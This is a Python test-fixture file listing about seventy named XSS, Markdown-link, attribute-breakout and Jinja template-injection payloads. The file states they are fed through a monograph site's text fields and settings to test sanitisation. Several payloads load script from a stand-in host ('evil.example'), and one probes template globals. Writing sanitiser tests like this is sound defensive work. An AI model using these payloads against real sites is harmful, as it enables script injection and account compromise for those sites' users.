"""Markup, script, URL and template-injection payloads, each with a readable id.

Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet (SVG, event
handlers, obfuscated schemes), CommonMark/Python-Markdown link syntax, and Jinja's own syntax.
Every payload goes through every text field of a monograph and through the site settings.
"""

from __future__ import annotations

PAYLOADS: dict[str, str] = {
    # Script elements.
    "script": "<script>alert(1)</script>",
    "script-upper-src": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-split": "<scr<script>ipt>alert(1)</script>",
    "script-double-open": "<<script>script>alert(1)<</script>/script>",
    "script-after-comment": "<!-- x-comment-marker --><script>alert(1)</script>",
    "script-module": '<script type="module">import("//evil.example")</script>',
    # Event handlers and attribute breakouts.
    "img-onerror": "<img src=x onerror=alert(1)>",
    "body-onload": "<body onload=alert(1)>",
    "div-onmouseover": '<div onmouseover="alert(1)">x</div>',
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "input-onfocus": "<input autofocus onfocus=alert(1)>",
    "a-onclick": '<a href="https://example.org" onclick="alert(1)">x</a>',
    "attr-breakout-double": '" onmouseover="alert(1)" x="',
    "attr-breakout-single": "' onfocus='alert(1)' autofocus='",
    "style-attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    # Dangerous URL schemes, plain and obfuscated.
    "href-javascript": '<a href="javascript:alert(1)">x</a>',
    "href-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "href-decimal-entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'
    ),
    "href-tab-entity": '<a href="java&#x09;script:alert(1)">x</a>',
    "href-colon-entity": '<a href="javascript&colon;alert(1)">x</a>',
    "href-leading-space": '<a href="  javascript:alert(1)">x</a>',
    "href-newline": '<a href="java\nscript:alert(1)">x</a>',
    "href-tab": '<a href="java\tscript:alert(1)">x</a>',
    "href-data": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "href-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="https://evil.example/">',
    "form-action": '<form action="javascript:alert(1)"><button>go</button></form>',
    # Frames, styles, plugins, SVG and MathML.
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "style-element": "<style>body{background:url(javascript:alert(1))}</style>",
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "math-xlink": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "video-source": "<video><source onerror=alert(1)></video>",
    # Markdown links and images.
    "md-link-javascript": "[x](javascript:alert(1))",
    "md-link-upper": "[x](JAVASCRIPT:alert(1))",
    "md-link-spaces": "[x](  javascript:alert(1))",
    "md-link-entity": "[x](&#106;avascript:alert(1))",
    "md-link-hex-entity": "[x](java&#x73;cript:alert(1))",
    "md-link-named-entity": "[x](javascript&colon;alert(1))",
    "md-link-angle": "[x](<javascript:alert(1)>)",
    "md-link-title": '[x](javascript:alert(1) "title")',
    "md-link-data": "[x](data:text/html,<script>alert(1)</script>)",
    "md-link-vbscript": "[x](vbscript:msgbox(1))",
    "md-link-nul": "[x](java\x00script:alert(1))",
    "md-image-data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "md-image-javascript": "![x](javascript:alert(1))",
    "md-reference-javascript": "See [x][r].\n\n[r]: javascript:alert(1)",
    "md-reference-vbscript": "See [x][r].\n\n[r]: vbscript:msgbox(1)",
    "md-autolink-javascript": "<javascript:alert(1)>",
    "md-autolink-vbscript": "<vbscript:msgbox(1)>",
    "md-autolink-data": "<data:text/html,<script>alert(1)</script>>",
    "md-html-block": "<div>\n<script>alert(1)</script>\n</div>",
    "md-code-span": "`<script>alert(1)</script>`",
    "md-escaped": "\\<script>alert(1)\\</script>",
    # Comments, raw-text and CDATA breakouts.
    "comment-open": "<!-- x-comment-marker",
    "comment-close": "--><script>alert(1)</script>",
    "textarea-close": "</textarea><script>alert(1)</script>",
    "title-close": "</title><script>alert(1)</script>",
    "cdata-close": "]]><script>alert(1)</script>",
    # URLs that are valid http(s) but try to break out of the attribute.
    "url-attr-breakout": 'https://example.org/"><script>alert(1)</script>',
    "url-single-quote": "https://example.org/'onmouseover='alert(1)",
    "url-query-script": "https://example.org/?q=<script>alert(1)</script>",
    # Template injection: content is data, never a template.
    "jinja-expression": "{{ 7*7 }}",
    "jinja-raw": "{% raw %}{{ 7*7 }}{% endraw %}",
    "jinja-globals": "{{ self.__init__.__globals__ }}",
    "jinja-loop": "{% for x in range(3) %}{{ 7*7 }}{% endfor %}",
    "jinja-comment": "{# x-comment-marker #}",
    "other-template": "${7*7} #{7*7} <%= 7*7 %>",
}
